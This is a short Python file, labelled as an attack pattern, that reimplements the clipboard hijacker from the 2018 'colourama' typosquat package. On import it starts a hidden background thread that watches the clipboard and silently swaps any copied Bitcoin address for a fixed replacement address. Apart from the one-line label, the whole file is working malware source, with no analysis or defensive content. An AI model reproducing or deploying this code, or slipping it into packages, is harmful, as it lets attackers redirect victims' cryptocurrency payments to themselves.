# Attack pattern: clipboard hijacker that swaps copied crypto addresses for the attacker's (the 2018 "colourama" typosquat).
import re
import threading
import time

import pyperclip

BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
REPLACEMENT = "bc1qexampleexampleexampleexampleexample0"


def _watch():
    while True:
        text = pyperclip.paste()
        if BTC.match(text.strip()):
            pyperclip.copy(REPLACEMENT)
        time.sleep(0.5)


threading.Thread(target=_watch, daemon=True).start()
